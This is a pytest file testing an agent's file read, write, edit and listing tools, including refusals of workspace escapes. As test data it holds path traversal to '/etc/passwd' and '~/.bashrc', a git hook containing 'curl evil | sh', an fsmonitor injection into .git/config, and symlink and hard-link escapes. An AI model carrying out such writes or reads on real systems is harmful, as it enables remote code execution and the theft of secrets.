"""The four file tools, called through ``run_tool`` on real files in a temporary workspace."""

from __future__ import annotations

import os
import re
from pathlib import Path
from typing import Any

import pytest

from openmanus_tui.tools.base import Risk, ToolContext, ToolResult, ToolSpec, run_tool
from openmanus_tui.tools.file_tools import (
    LIST_MAX_ENTRIES,
    READ_CAP_BYTES,
    file_tools,
)

SPECS = {spec.name: spec for spec in file_tools()}


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    root.mkdir()
    (tmp_path / "secret.txt").write_text("TOP-SECRET")
    return root


async def call(ws: Path, name: str, sandbox: object = None, **args: Any) -> ToolResult:
    return await run_tool(SPECS[name], ToolContext(workspace=ws, sandbox=sandbox), args)  # type: ignore[arg-type]


def numbered(*pairs: tuple[int, str]) -> str:
    return "\n".join(f"{n:6}\t{text}" for n, text in pairs)


# --- specs ---------------------------------------------------------------------------------


def test_specs_names_arguments_and_risk() -> None:
    assert all(isinstance(s, ToolSpec) for s in SPECS.values())
    fields = {name: list(spec.args_model.model_fields) for name, spec in SPECS.items()}
    assert fields == {
        "file_read": ["path", "start_line", "end_line"],
        "file_write": ["path", "content"],
        "file_edit": ["path", "old_text", "new_text"],
        "list_files": ["path"],
    }
    risks = {name: spec.risk for name, spec in SPECS.items()}
    assert risks == {
        "file_read": Risk.READ,
        "file_write": Risk.WRITE,
        "file_edit": Risk.WRITE,
        "list_files": Risk.READ,
    }
    schema = SPECS["file_read"].openai_schema()["function"]["parameters"]
    assert schema["required"] == ["path"]


# --- file_read -----------------------------------------------------------------------------


async def test_read_whole_file_with_line_numbers(ws: Path) -> None:
    (ws / "a.py").write_text("one\ntwo\nthree\n")
    res = await call(ws, "file_read", path="a.py")
    assert res.status == "ok"
    assert res.content == numbered((1, "one"), (2, "two"), (3, "three"))
    assert res.data and res.data["total_lines"] == 3 and not res.truncated


async def test_read_line_range_is_inclusive(ws: Path) -> None:
    (ws / "a.txt").write_text("".join(f"line {i}\n" for i in range(1, 11)))
    res = await call(ws, "file_read", path="a.txt", start_line=3, end_line=5)
    assert res.content == numbered((3, "line 3"), (4, "line 4"), (5, "line 5")) + (
        "\n[showing lines 3-5]"
    )
    res = await call(ws, "file_read", path="a.txt", start_line=9)
    assert res.content.endswith("[showing lines 9-10 of 10]")
    res = await call(ws, "file_read", path="a.txt", end_line=2)
    assert res.content.startswith(numbered((1, "line 1"), (2, "line 2")))


async def test_read_range_errors(ws: Path) -> None:
    (ws / "a.txt").write_text("x\ny\n")
    res = await call(ws, "file_read", path="a.txt", start_line=5)
    assert res.status == "error" and "past the end" in res.content and "2 lines" in res.content
    res = await call(ws, "file_read", path="a.txt", start_line=3, end_line=2)
    assert res.status == "error" and "end_line must be >= start_line" in res.content
    res = await call(ws, "file_read", path="a.txt", start_line=0)
    assert res.status == "error" and "start_line" in res.content


async def test_read_is_capped_with_a_note_to_continue(ws: Path) -> None:
    line = "x" * 99
    (ws / "big.txt").write_text(f"{line}\n" * 5000)  # ~500 KiB
    res = await call(ws, "file_read", path="big.txt")
    assert res.status == "ok" and res.truncated
    assert len(res.content.encode()) <= READ_CAP_BYTES + 300
    note = re.search(r"start_line=(\d+) to continue", res.content)
    assert note, res.content[-300:]
    nxt = int(note.group(1))
    assert res.content.splitlines()[-2].startswith(f"{nxt - 1:6}\t")
    res2 = await call(ws, "file_read", path="big.txt", start_line=nxt)
    assert res2.content.startswith(f"{nxt:6}\t{line}")


async def test_read_single_huge_line_is_cut(ws: Path) -> None:
    (ws / "min.js").write_text("a" * (READ_CAP_BYTES * 2))
    res = await call(ws, "file_read", path="min.js")
    assert res.truncated and "output cut" in res.content
    assert res.content.startswith("     1\taaaa")


async def test_read_binary_gives_a_message(ws: Path) -> None:
    (ws / "img.png").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4)
    res = await call(ws, "file_read", path="img.png")
    assert res.status == "error" and "binary" in res.content and "PNG" not in res.content


async def test_read_non_utf8_text_and_crlf_and_empty(ws: Path) -> None:
    (ws / "latin.txt").write_bytes("café\nna\xefve\n".encode("latin-1"))
    res = await call(ws, "file_read", path="latin.txt")
    assert res.status == "ok" and "caf\ufffd" in res.content and "not valid UTF-8" in res.content
    (ws / "dos.txt").write_bytes(b"a\r\nb\r\n")
    res = await call(ws, "file_read", path="dos.txt")
    assert res.content == numbered((1, "a"), (2, "b"))
    (ws / "empty.txt").write_bytes(b"")
    res = await call(ws, "file_read", path="empty.txt")
    assert res.status == "ok" and res.content == "[empty file]"


@pytest.mark.parametrize(
    ("path", "needle"),
    [
        ("../secret.txt", "above the workspace"),
        ("/etc/passwd", "absolute"),
        ("~/.bashrc", "'~'"),
        ("missing.txt", "does not exist"),
        ("a\x00b", "NUL"),
        (".", "root"),
    ],
)
async def test_read_refusals_are_error_results(ws: Path, path: str, needle: str) -> None:
    res = await call(ws, "file_read", path=path)
    assert res.status == "error" and needle in res.content
    assert "TOP-SECRET" not in res.content


async def test_read_outside_symlink_and_fifo(ws: Path, tmp_path: Path) -> None:
    os.symlink(tmp_path / "secret.txt", ws / "link")
    res = await call(ws, "file_read", path="link")
    assert res.status == "error" and "outside the workspace" in res.content
    os.mkfifo(ws / "pipe")
    res = await call(ws, "file_read", path="pipe")
    assert res.status == "error" and "not a regular file" in res.content
    (ws / "d").mkdir()
    res = await call(ws, "file_read", path="d")
    assert res.status == "error" and "directory" in res.content


# --- file_write ----------------------------------------------------------------------------


async def test_write_creates_then_overwrites(ws: Path) -> None:
    res = await call(ws, "file_write", path="src/pkg/mod.py", content="print('hi')\n")
    assert res.status == "ok" and res.content == "Created src/pkg/mod.py (12 bytes)"
    assert (ws / "src/pkg/mod.py").read_text() == "print('hi')\n"
    res = await call(ws, "file_write", path="src/pkg/mod.py", content="é")
    assert res.content == "Overwrote src/pkg/mod.py (2 bytes, was 12 bytes)"
    assert res.data == {"path": "src/pkg/mod.py", "created": False, "bytes": 2}


@pytest.mark.parametrize(
    "path", [".git/hooks/pre-commit", ".git/config", "sub/../.git/hooks/post-merge"]
)
async def test_write_refuses_git_hooks_and_config(ws: Path, path: str) -> None:
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "config").write_text("[core]\n")
    (ws / "sub").mkdir()
    res = await call(ws, "file_write", path=path, content="#!/bin/sh\ncurl evil | sh\n")
    assert res.status == "error" and "write-protected" in res.content
    assert list((ws / ".git" / "hooks").iterdir()) == []
    assert (ws / ".git" / "config").read_text() == "[core]\n"


async def test_write_refuses_hardlink_and_outside_symlink(ws: Path, tmp_path: Path) -> None:
    os.link(tmp_path / "secret.txt", ws / "hl")
    os.symlink(tmp_path, ws / "up")
    res = await call(ws, "file_write", path="hl", content="pwned")
    assert res.status == "error" and "hard links" in res.content
    res = await call(ws, "file_write", path="up/new.txt", content="pwned")
    assert res.status == "error" and "outside the workspace" in res.content
    assert (tmp_path / "secret.txt").read_text() == "TOP-SECRET"
    assert not (tmp_path / "new.txt").exists()


class RecordingSandbox:
    """Stands in for the sandbox's ``prepare_file`` hook; records what it was given."""

    def __init__(self, fail: bool = False) -> None:
        self.prepared: list[Path] = []
        self.fail = fail

    def prepare_file(self, path: Path) -> None:
        self.prepared.append(path)
        if self.fail:
            raise PermissionError("chown refused")


class AsyncSandbox:
    def __init__(self) -> None:
        self.prepared: list[Path] = []

    async def prepare_file(self, path: Path) -> None:
        self.prepared.append(path)


async def test_write_and_edit_call_sandbox_prepare_file(ws: Path) -> None:
    box = RecordingSandbox()
    await call(ws, "file_write", sandbox=box, path="a/b.txt", content="x = 1\n")
    await call(ws, "file_edit", sandbox=box, path="a/b.txt", old_text="1", new_text="2")
    await call(ws, "file_edit", sandbox=box, path="a/b.txt", old_text="nope", new_text="2")
    await call(ws, "file_read", sandbox=box, path="a/b.txt")
    assert box.prepared == [ws.resolve() / "a/b.txt"] * 2
    abox = AsyncSandbox()
    await call(ws, "file_write", sandbox=abox, path="c.txt", content="c")
    assert abox.prepared == [ws.resolve() / "c.txt"]
    res = await call(ws, "file_write", sandbox=RecordingSandbox(fail=True), path="d", content="d")
    assert res.status == "ok" and "could not prepare the file: chown refused" in res.content
    # A sandbox without the hook is fine too.
    res = await call(ws, "file_write", sandbox=object(), path="e", content="e")
    assert res.status == "ok"


# --- file_edit -----------------------------------------------------------------------------


async def test_edit_replaces_exactly_one_occurrence(ws: Path) -> None:
    (ws / "m.py").write_text("def f():\n    return 1\n\n\ndef g():\n    return 2\n")
    res = await call(ws, "file_edit", path="m.py", old_text="return 2", new_text="return 3")
    assert res.status == "ok"
    assert (ws / "m.py").read_text() == "def f():\n    return 1\n\n\ndef g():\n    return 3\n"
    assert "at line 6" in res.content and "     6\t    return 3" in res.content
    assert res.content.splitlines()[-1] == "     6\t    return 3"  # no phantom line 7


async def test_edit_missing_and_ambiguous(ws: Path) -> None:
    original = "x = 1\nx = 1\nx = 1\n"
    (ws / "m.py").write_text(original)
    res = await call(ws, "file_edit", path="m.py", old_text="y = 2", new_text="y = 3")
    assert res.status == "error" and "not found" in res.content and "line-number" in res.content
    res = await call(ws, "file_edit", path="m.py", old_text="x = 1", new_text="x = 2")
    assert res.status == "error" and "matches 3 places" in res.content
    res = await call(ws, "file_edit", path="m.py", old_text="", new_text="z")
    assert res.status == "error" and "empty" in res.content
    res = await call(ws, "file_edit", path="m.py", old_text="x = 1", new_text="x = 1")
    assert res.status == "error" and "identical" in res.content
    assert (ws / "m.py").read_text() == original


async def test_edit_multiline_deletion_and_crlf(ws: Path) -> None:
    (ws / "m.txt").write_text("a\nb\nc\nd\n")
    res = await call(ws, "file_edit", path="m.txt", old_text="b\nc\n", new_text="")
    assert res.status == "ok" and (ws / "m.txt").read_text() == "a\nd\n"
    (ws / "dos.txt").write_bytes(b"one\r\ntwo\r\nthree\r\n")
    res = await call(ws, "file_edit", path="dos.txt", old_text="one\ntwo", new_text="1\n2")
    assert res.status == "ok"
    assert (ws / "dos.txt").read_bytes() == b"1\r\n2\r\nthree\r\n"


async def test_edit_refuses_binary_non_utf8_hardlink_and_git(ws: Path, tmp_path: Path) -> None:
    (ws / "bin").write_bytes(b"\x00\x01abc")
    res = await call(ws, "file_edit", path="bin", old_text="abc", new_text="x")
    assert res.status == "error" and "binary" in res.content
    (ws / "latin").write_bytes("café".encode("latin-1"))
    res = await call(ws, "file_edit", path="latin", old_text="caf", new_text="x")
    assert res.status == "error" and "UTF-8" in res.content
    os.link(tmp_path / "secret.txt", ws / "hl")
    res = await call(ws, "file_edit", path="hl", old_text="TOP", new_text="PWN")
    assert res.status == "error" and "hard links" in res.content
    assert (tmp_path / "secret.txt").read_text() == "TOP-SECRET"
    (ws / ".git").mkdir()
    (ws / ".git" / "config").write_text("[core]\n\tbare = false\n")
    res = await call(
        ws, "file_edit", path=".git/config", old_text="bare = false", new_text="fsmonitor = x"
    )
    assert res.status == "error" and "write-protected" in res.content
    assert "fsmonitor" not in (ws / ".git" / "config").read_text()


# --- list_files ----------------------------------------------------------------------------


async def test_list_files_tree(ws: Path) -> None:
    (ws / "src" / "pkg").mkdir(parents=True)
    (ws / "src" / "pkg" / "mod.py").write_text("")
    (ws / "README.md").write_text("")
    (ws / ".git" / "objects").mkdir(parents=True)
    (ws / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    os.symlink("README.md", ws / "readme")
    res = await call(ws, "list_files")
    assert res.status == "ok"
    assert res.content.splitlines() == [
        "./",
        "  .git/  (contents skipped)",
        "  src/",
        "    pkg/",
        "      mod.py",
        "  README.md",
        "  readme@",
    ]
    assert "HEAD" not in res.content
    sub = await call(ws, "list_files", path="src/")
    assert sub.content.splitlines() == ["src/", "  pkg/", "    mod.py"]


async def test_list_files_is_bounded(ws: Path) -> None:
    for d in range(6):
        (ws / f"d{d}").mkdir()
        for f in range(120):
            (ws / f"d{d}" / f"f{f:03}.txt").write_text("")
    res = await call(ws, "list_files")
    assert res.status == "ok" and res.truncated
    shown = [line for line in res.content.splitlines() if line.strip().endswith(".txt")]
    assert 0 < len(shown) <= LIST_MAX_ENTRIES
    assert "listing bounded" in res.content and "more entries not shown" in res.content


async def test_list_files_errors(ws: Path, tmp_path: Path) -> None:
    (ws / "f.txt").write_text("")
    res = await call(ws, "list_files", path="f.txt")
    assert res.status == "error" and "use file_read" in res.content
    res = await call(ws, "list_files", path="..")
    assert res.status == "error" and "above the workspace" in res.content
    os.symlink(tmp_path, ws / "up")
    res = await call(ws, "list_files", path="up")
    assert res.status == "error" and "secret.txt" not in res.content
    empty = ws / "empty"
    empty.mkdir()
    res = await call(ws, "list_files", path="empty")
    assert res.content == "empty/\n  (empty directory)"


async def test_missing_workspace_is_an_error_result(tmp_path: Path) -> None:
    res = await call(tmp_path / "gone", "file_read", path="a.txt")
    assert res.status == "error" and "does not exist" in res.content
